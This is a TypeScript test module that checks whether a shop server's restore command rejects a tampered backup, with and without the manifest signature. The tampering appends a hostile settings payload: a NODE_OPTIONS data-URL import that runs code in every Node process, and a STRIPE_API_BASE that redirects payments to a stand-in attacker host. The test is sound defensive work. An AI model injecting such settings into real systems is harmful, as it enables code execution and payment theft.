import { execFile } from "node:child_process";
import { createHash } from "node:crypto";
import { copyFile, mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { counted, type Result } from "../result.ts";
import type { Shop } from "./shop.ts";

const commands = fileURLToPath(new URL("../../../packages/server/dist/commands/", import.meta.url));
const keyFile = "encryption.key";
/** Runs code in every Node that reads it, and turns payments to another host. */
const injected = "NODE_OPTIONS=--import=data:text/javascript,\nSTRIPE_API_BASE=https://attacker.example\n";

/** Restores a backup into whose settings a stranger wrote, with its signature and without. */
export async function measureTamperedBackup(shop: Shop): Promise<Result[]> {
  const folder = await mkdtemp(join(tmpdir(), "recital-tampered-"));
  try {
    const archive = await makeBackup(shop, folder);
    await runTool("tar", ["-xzf", archive, "-C", folder]);
    await tamper(folder);
    const members = (await runTool("tar", ["-tzf", archive])).output.trim().split("\n");
    const signed = await restore(shop, folder, members);
    const unsigned = await restore(
      shop,
      folder,
      members.filter((name) => name !== "manifest.signature"),
    );
    return [
      counted(
        null,
        "backup with changed settings: exit code with its signature; without it, exit code and injected settings",
        `${signed.code}; ${unsigned.code}, ${unsigned.injected}`,
        "1; 0, 0",
        signed.code === 1 && signed.injected === 0 && unsigned.code === 0 && unsigned.injected === 0,
      ),
    ];
  } finally {
    await rm(folder, { recursive: true });
  }
}

async function makeBackup({ stack }: Shop, folder: string): Promise<string> {
  const archive = join(folder, "original.tar.gz");
  const databaseUrl = stack.database.url;
  const env = { DATA_DIR: stack.dataDir, ...(databaseUrl !== undefined && { DATABASE_URL: databaseUrl }) };
  const { code, output } = await runTool(process.execPath, [`${commands}backup.js`, "--to", archive], env);
  if (code !== 0) throw new Error(output);
  return archive;
}

/** Adds to the settings and makes the manifest fit. */
async function tamper(folder: string): Promise<void> {
  const [settings, manifest] = [join(folder, "settings.env"), join(folder, "manifest.json")];
  const text = (await readFile(settings, "utf8")) + injected;
  await writeFile(settings, text);
  const described = JSON.parse(await readFile(manifest, "utf8")) as { files: { name: string }[] };
  const facts = { bytes: Buffer.byteLength(text), sha256: createHash("sha256").update(text).digest("hex") };
  Object.assign(described.files.find(({ name }) => name === "settings.env") ?? {}, facts);
  await writeFile(manifest, JSON.stringify(described));
}

/** Restores these members into an empty site with the same encryption key. */
async function restore({ stack }: Shop, folder: string, members: readonly string[]) {
  const dataDir = await mkdtemp(join(folder, "site-"));
  await copyFile(join(stack.dataDir, keyFile), join(dataDir, keyFile));
  const archive = join(folder, "tampered.tar.gz");
  await runTool("tar", ["-czf", archive, "-C", folder, ...members]);
  const settings = join(dataDir, "settings.env");
  const args = [`${commands}restore.js`, archive, "--settings", settings];
  const { code } = await runTool(process.execPath, args, { DATA_DIR: dataDir });
  const written = await readFile(settings, "utf8").catch(() => "");
  return { code, injected: /^\s*(NODE_OPTIONS|STRIPE_API_BASE)=/m.test(written) ? 1 : 0 };
}

function runTool(
  file: string,
  args: readonly string[],
  env: Readonly<Record<string, string>> = {},
): Promise<{ readonly code: number; readonly output: string }> {
  return new Promise((resolve) => {
    const child = execFile(file, args, { env: { PATH: process.env["PATH"], ...env } }, (_, output, errors) =>
      resolve({ code: child.exitCode ?? 1, output: output + errors }),
    );
  });
}
